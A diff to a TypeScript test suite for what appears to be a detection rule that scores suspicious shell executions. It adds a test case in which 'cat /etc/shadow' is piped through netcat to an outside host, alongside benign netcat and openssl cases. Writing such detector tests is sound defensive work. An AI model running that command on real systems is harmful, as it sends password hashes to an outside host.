@@ -265,6 +265,17 @@ const found: readonly Case[] = [
     expected: 'low',
   },
   {
+    name: 'a file piped outside',
+    events: [
+      execution({
+        exe: '/usr/bin/dash',
+        args: ['/bin/sh', '-c', `cat /etc/shadow|nc ${OUTSIDE} 3333`],
+        ...www,
+      }),
+    ],
+    expected: 'low',
+  },
+  {
     name: 'a pattern of the site',
     events: [run('superproxy --up', www)],
     options: { parameters: { CommandLinePattern: ['superproxy *up'] } },
@@ -345,6 +356,26 @@ const silent: readonly Omit<Case, 'expected'>[] = [
     name: 'a look at a certificate',
     events: [
       run('openssl s_client -connect 203.0.113.20:443 -servername h', { user: 'nagios', login: 'unset' }),
+    ],
+  },
+  {
+    name: 'a metric sent by a script',
+    events: [
+      execution({ exe: '/usr/bin/dash', args: ['sh', '-c', 'echo "a 1" | nc -q0 203.0.113.20 2003'] }),
+    ],
+  },
+  {
+    name: 'the expiry of a certificate, by cron',
+    events: [
+      execution({
+        exe: '/usr/bin/dash',
+        args: [
+          'sh',
+          '-c',
+          'echo | openssl s_client -connect 203.0.113.20:443 2>/dev/null | openssl x509 -noout -enddate',
+        ],
+      }),
+      connection({ exe: '/usr/bin/openssl' }, '203.0.113.20', 443),
     ],
   },
   { name: 'kubectl port-forward', events: [run('kubectl port-forward pod/a 8080:80', alice)] },
